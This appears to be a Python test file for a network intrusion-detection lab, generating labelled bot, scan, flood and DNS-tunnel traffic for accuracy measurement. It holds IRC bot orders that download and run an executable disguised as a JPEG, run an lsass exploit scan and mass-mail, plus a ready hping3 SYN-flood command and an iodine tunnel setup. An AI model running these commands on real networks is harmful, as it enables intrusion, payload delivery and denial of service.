# SPDX-License-Identifier: GPL-3.0-or-later
"""Real packets of bots: the simulated bot of the demo, a bot on a real IRC server; and single signs by real tools."""

import time

import lib
from accuracy.lab import CannotRun, FAR, PYTHON
from accuracy.real import label, real
from accuracy.rows_programs import FILES, member, tell


def simulated(lab, host, order, targets, ports="445", shape="child"):
    """The demo's server outside and its bot on a home host; returns when the order is done."""
    if not lab.sim.exists():
        raise CannotRun(f"{lab.sim} is not built")
    sim = lib.Sim(lab.net, str(lab.sim), address=FAR)
    bot = sim.bot(shape, targets=targets, ports=ports, side=host)
    time.sleep(1)
    sim.order(order)
    lib.wait_json(bot, "done", timeout=50)
    time.sleep(0.5)


def browsing(lab, hosts):
    for host in hosts:
        for name in ("www.test/page.html", "cdn.test/a.jpg", "download.test/setup.exe"):
            lab.run(host, "curl", "-sS", "-o", "/dev/null", f"http://{name}")


@real("sim-scan", "curl", "nginx", "dnsmasq", h2=label("irc_control", "scan"))
def sim_scan(lab):
    lab.names()
    lab.web(FILES)
    yield
    browsing(lab, ("h1", "h3"))
    # So weak an order counts for nothing (docs/accuracy.md): the scan must speak for itself.
    simulated(lab, "h2", ".scan tcp 1100", "10.77.16.0/20,10.77.2.0/25")
    browsing(lab, ("h4", "h5"))


@real("bot-on-ngircd", "ngircd", "ii", "nginx", "dnsmasq", "curl",
      h4=label("irc_control", "egg", "scan", "mass_mail", kinds=("irc_control.executed", "egg.disguised",
                                                                 "scan.horizontal")))
def bot_on_ngircd(lab):
    lab.names(mail_sites=60)
    lab.web({**FILES, "pic.jpg": FILES["client.exe"]})
    lab.irc_server(port=4711)
    lab.mail_sink(25)
    yield
    master = member(lab, "outside", "rix", "#cmd", port=4711)
    for n, host in enumerate(("h1", "h2")):  # two people are on the same server, in a channel of their own
        tell(member(lab, host, f"anna{n}", "#talk", port=4711), "hello there, is anybody around?")
    bot = lab.start("h4", PYTHON, "-B", __file__.replace("rows_bots", "obedient"), FAR, "4711", "DEU-49317", "#cmd", "")
    time.sleep(2)
    browsing(lab, ("h1", "h3"))
    for order, seconds in ((".download http://files.test/pic.jpg c:\\w.exe 1 -s", 2), (".advscan lsass 240 5 0 -r -s", 11),
                           (".email 10.77.2.1 120 1 -s", 8)):
        tell(master, order)
        time.sleep(seconds)
        if bot.poll() is not None:
            raise CannotRun(f"the bot has ended: {bot.log.read_text()[-200:]}")
    browsing(lab, ("h5", "h6"))


@real("real-nmap", "nmap", h3=label("scan", level="suspect", sign=True))
def nmap(lab):
    yield
    lab.run("h3", "nmap", "-n", "-sT", "-p", "1-300", "-T4", "10.77.1.20", timeout=60)
    lab.run("h3", "nmap", "-n", "-sT", "-Pn", "-p", "3389", "-T4", "--max-retries", "0", "10.77.2.0/25", "10.77.3.0/25",
            timeout=60)


@real("real-syn-flood", "hping3", h5=label("flood", level="suspect", kinds=("flood.syn",), sign=True))
def syn_flood(lab):
    yield
    # To an address where nobody answers; 400 a second for 15 s.
    lab.run("h5", "hping3", "-q", "-S", "-p", "80", "-i", "u2500", "-c", "6000", "10.77.3.80", timeout=40)


@real("real-tunnel", "iodine", "iodined", "dnsmasq", h1=label("dns_anomaly", level="clear", kinds=("dns_anomaly.tunnel",),
                                                              sign=True))
def tunnel(lab):
    lab.file("secret", "secret")
    lab.start("outside", "iodined", "-f", "-c", "-P", "secret", "-l", "10.77.1.53", "10.99.0.1/24", "t.tunnel.test")
    lab.wait_port("outside", 53, udp=True)
    yield
    client = lab.start("h1", "iodine", "-f", "-r", "-P", "secret", "-T", "TXT", "10.77.1.53", "t.tunnel.test")
    time.sleep(6)
    lab.run("h1", "ping", "-q", "-i", "0.02", "-c", "400", "-s", "400", "10.99.0.1", timeout=30)
    if client.poll() is not None:
        raise CannotRun(f"iodine has ended: {client.log.read_text()[-200:]}")
